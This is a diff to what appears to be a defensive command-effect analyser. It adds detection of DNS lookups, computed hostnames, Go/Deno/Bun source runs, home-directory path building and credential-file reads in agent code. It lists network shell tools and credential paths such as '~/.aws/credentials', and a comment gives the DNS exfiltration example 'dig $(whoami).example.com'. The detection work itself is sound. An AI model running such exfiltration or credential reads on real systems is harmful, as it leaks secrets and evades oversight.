@@ -633,7 +633,32 @@ _BUILD_TEST = {
     "make": "test",
 }
 _TEST_SCRIPTS_T = tuple(_TEST_SCRIPTS)
-_NET_NAMES = _FETCHERS | {"nc", "ncat", "netcat", "telnet", "socat", "ssh", "scp", "sftp", "rsync"}
+# name lookups and reachability probes: a name they resolve reaches a DNS server, so data put
+# into the name itself leaves the machine (``dig $(whoami).example.com``)
+# commands that compile and run a source file: the name and the subcommand that runs it
+_RUN_SOURCE = {"go": "run", "deno": "run", "bun": "run"}
+_RESOLVERS = frozenset(
+    {"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "tracepath", "mtr"}
+)
+_DNS_TYPES = frozenset({"a", "aaaa", "any", "mx", "ns", "txt", "cname", "soa", "ptr", "srv"})
+_NET_NAMES = (
+    _FETCHERS
+    | _RESOLVERS
+    | {"nc", "ncat", "netcat", "telnet", "socat", "ssh", "scp", "sftp", "rsync"}
+)
+_NAME_TAIL_RE = re.compile(r"[\w-]*(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}\.?")
+
+
+def _name_detail(host: str) -> str:
+    """``computed-name`` for a host name made of an unknown value (a command's output, a
+    variable) in front of a literal domain: ``$(whoami).example.com`` carries data out in the
+    name itself, whatever is fetched. A wholly unknown host (``$HOST``) is not one."""
+    if DYN not in host:
+        return ""
+    tail = host.rsplit(DYN, 1)[1]
+    return "computed-name" if _NAME_TAIL_RE.fullmatch(tail) else ""
+
+
 _SELECTION_FLAGS = ("-k", "--deselect", "-m", "--ignore", "--ignore-glob", "-run", "--filter")
 _READERS = frozenset(
     {"cat", "head", "tail", "less", "more", "nl", "bat", "tac", "wc", "sort", "uniq", "cut",
@@ -842,6 +867,8 @@ def upstream_content(cmd: Cmd) -> tuple[bool, str | None]:
 
 
 def host_of(url: str) -> str:
+    if DYN in url:  # an unknown value is part of the name, not a query string's "?"
+        return host_of(url.replace(DYN, _DYN_IN_HOST)).replace(_DYN_IN_HOST, DYN)
     rest = url.split("://", 1)[1] if "://" in url else url
     rest = rest.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
     if "@" in rest:
@@ -849,6 +876,9 @@ def host_of(url: str) -> str:
     if rest.startswith("["):
         return rest.split("]", 1)[0] + "]"
     return rest.rsplit(":", 1)[0] if rest.count(":") == 1 else rest
+
+
+_DYN_IN_HOST = "\x00*\x00"
 
 
 def host_class(host: str) -> str:
@@ -976,6 +1006,8 @@ class EffectReader:
                 _h_pip(self, cmd, out)
             else:
                 self._interpreter(cmd, out, state)
+        elif state is not None and _RUN_SOURCE.get(name) == (argv[1] if len(argv) > 1 else ""):
+            self._source_run(cmd, out, state)
         if cmd.via[-1:] == (CODE_VIA,):
             # stands for what inline code does (the policy's interpreter patterns): Python code
             # is read by ``code_effects`` itself; for other languages ``open(p, 'w')`` became
@@ -1175,7 +1207,7 @@ class EffectReader:
                         host=host,
                         host_class=host_class(host),
                         url=url,
-                        detail=detail,
+                        detail=detail or _name_detail(host),
                         span=cmd.span,
                         via=cmd.via,
                     )
@@ -1201,6 +1233,23 @@ class EffectReader:
                         )
                     )
                     return
+        elif name in _RESOLVERS:
+            for a in argv[1:]:
+                if a.startswith(("-", "+", "@")) or a.isdigit() or a.lower() in _DNS_TYPES:
+                    continue
+                if "." in a or DYN in a:
+                    host = host_of(a)
+                    out.append(
+                        NetworkEffect(
+                            op="lookup",
+                            host=host,
+                            host_class=host_class(host),
+                            detail=_name_detail(host),
+                            span=cmd.span,
+                            via=cmd.via,
+                        )
+                    )
+                    return
         elif name in ("nc", "ncat", "netcat", "telnet", "socat", "ssh", "scp", "sftp", "rsync"):
             listen = name in ("nc", "ncat", "netcat") and _short_flag(argv[1:], "l", "--listen")
             for a in argv[1:]:
@@ -1218,7 +1267,7 @@ class EffectReader:
                             op="listen" if listen else "upload" if up else "connect",
                             host=host,
                             host_class=host_class(host),
-                            detail=("file:" + src) if up else "",
+                            detail=("file:" + src) if up else _name_detail(host),
                             span=cmd.span,
                             via=cmd.via,
                         )
@@ -1262,6 +1311,16 @@ class EffectReader:
             out.append(TestRun(runner=runner, selection=selection, span=cmd.span, via=cmd.via))
 
     # interpreter code ------------------------------------------------------------------------
+    def _source_run(self, cmd: Cmd, out: list[Effect], state: PathState) -> None:
+        """``go run x.go`` (and ``deno run``, ``bun run``) compiles and runs source files: one
+        the agent wrote earlier, content known, is read for its effects like a script."""
+        for a in cmd.argv[2:]:
+            if a.startswith("-"):
+                continue
+            p = abspath(a, cmd.cwd, self.cfg.home)
+            if p is not None and p in state.contents:
+                out.extend(code_effects(state.contents[p], cmd, self, inline=False))
+
     def _interpreter(self, cmd: Cmd, out: list[Effect], state: PathState | None) -> None:
         code = interpreter_code(cmd, self.res.code_flags)
         # Python is read whole here; other languages' literal-path writes come as commands
@@ -2099,8 +2158,10 @@ _NET_CALL = re.compile(
     r"https?\.get\(|wget|curl|file_get_contents|Net::HTTP|open-uri|LWP|pycurl"
 )
 _CONNECT_RE = re.compile(
-    r"""(?:(?:create_connection|\.connect|fsockopen|Dial|TCPClient|TCPSocket\.(?:new|open)|"""
-    r"""UDPSocket\.new|connect\()\s*\(?\s*\(?|PeerAddr\s*(?:=>|,))\s*['"]([\w.:-]+)['"]"""
+    r"""(?:(?:create_connection|\.connect|fsockopen|Dial(?:Timeout)?|TCPClient|"""
+    r"""TCPSocket\.(?:new|open)|UDPSocket\.new|connect\()\s*\(?\s*\(?"""
+    # Go names the network first: ``net.Dial("tcp", "host:port")``
+    r"""(?:['"](?:tcp|udp)[46]?['"]\s*,\s*)?|PeerAddr\s*(?:=>|,))\s*['"]([\w.:-]+)['"]"""
 )
 
 
@@ -2120,6 +2181,46 @@ def _arith(expr: str) -> float | None:
     return total
 
 
+# the home directory as code spells it, in Python, Node, Ruby and Perl
+_HOME = (
+    r"""(?:os\.environ\[\s*['"]HOME['"]\s*\]|os\.environ\.get\(\s*['"]HOME['"][^)]*\)|"""
+    r"""(?:os\.)?getenv\(\s*['"]HOME['"][^)]*\)|process\.env\.HOME\b|"""
+    r"""process\.env\[\s*['"]HOME['"]\s*\]|(?:require\(\s*['"](?:node:)?os['"]\s*\)|\bos)"""
+    r"""\.homedir\(\)|ENV\[\s*['"]HOME['"]\s*\]|ENV\.fetch\(\s*['"]HOME['"]\s*\)|"""
+    r"""Dir\.home\b|\$ENV\{\s*['"]?HOME['"]?\s*\}|(?:pathlib\.)?Path\.home\(\)|"""
+    r"""os\.path\.expanduser\(\s*['"]~/?['"]\s*\))"""
+)
+_LIT = r"""['"`]([^'"`\\\n]*)['"`]"""
+# "${HOME}" inside a string: a JS template, an f-string, Ruby's #{}, Perl's "$ENV{HOME}"
+_HOME_IN_STRING_RE = re.compile(
+    r"(?:\$|#)?\{\s*" + _HOME + r"\s*\}|\$ENV\{\s*['\"]?HOME['\"]?\s*\}"
+)
+# HOME + '/x', join(HOME, 'a', 'b'), Path.home() / 'a' / 'b'
+_HOME_PLUS_RE = re.compile(_HOME + r"\s*\+\s*" + _LIT)
+_HOME_JOIN_RE = re.compile(
+    r"(?:os\.path\.join|(?:\bpath|require\(\s*['\"](?:node:)?path['\"]\s*\))\.(?:join|resolve)|"
+    r"File\.join|(?:pathlib\.)?Path)\(\s*" + _HOME + r"((?:\s*,\s*" + _LIT + r")+)\s*\)"
+)
+_HOME_DIV_RE = re.compile(_HOME + r"((?:\s*/\s*" + _LIT + r")+)")
+_CODE_LITERAL_RE = re.compile(r"""[rbufRBUF]?(['"`])([~/][^'"`\\\n]{0,500})\1""")
+
+
+def _home_paths(code: str) -> str:
+    """``code`` with the home directory spelled as ``~`` where it builds a path from it
+    (``process.env.HOME + '/.npmrc'``, ``Path.home() / '.aws' / 'credentials'``,
+    ``f"{os.environ['HOME']}/.netrc"``), so the path is read as the literal it makes."""
+    if "HOME" not in code and "home" not in code and "expanduser" not in code:
+        return code
+    code = _HOME_IN_STRING_RE.sub("~", code)
+
+    def parts(text: str) -> str:
+        return "/".join(p.strip("/") for p in re.findall(_LIT, text))
+
+    code = _HOME_JOIN_RE.sub(lambda m: "'~/" + parts(m.group(1)) + "'", code)
+    code = _HOME_DIV_RE.sub(lambda m: "Path('~/" + parts(m.group(1)) + "')", code)
+    return _HOME_PLUS_RE.sub(lambda m: "'~" + m.group(1) + "'", code)
+
+
 def code_effects(code: str, cmd: Cmd, r: EffectReader, *, inline: bool = True) -> list[Effect]:
     """Effects of interpreter code (Python first, some JS and Perl), read with regexes over the
     text: file writes and deletes (paths from literals or from variables assigned a literal,
@@ -2129,6 +2230,7 @@ def code_effects(code: str, cmd: Cmd, r: EffectReader, *, inline: bool = True) -
     out: list[Effect] = []
     if len(code) > CONTENT_LIMIT:
         code = code[:CONTENT_LIMIT]
+    code = _home_paths(code)
     names: dict[str, str] = {}
     for m in _TEMP_ASSIGN_RE.finditer(code):
         var = m.group("name") or m.group("name2")
@@ -2314,6 +2416,14 @@ def code_effects(code: str, cmd: Cmd, r: EffectReader, *, inline: bool = True) -
     if unresolved:
         detail = "writes a computed path (" + ", ".join(sorted(set(unresolved))) + ")"
         out.append(UnknownEffect(op="code-write", detail=detail, span=sp, via=via))
+    # a credential file the code names is read by it, whatever call takes the name (as for a
+    # command's operands): unless another effect already names that file
+    named = {e.path for e in out if isinstance(e, FileEffect)}
+    for m in _CODE_LITERAL_RE.finditer(code):
+        p = abspath(m.group(2), cmd.cwd, r.cfg.home)
+        if p is not None and p not in named and r.paths.credential(p):
+            add("read", m.group(2))
+            named.add(p)
     return list(dict.fromkeys(out))  # a loop and a call may both name the same change
 
 
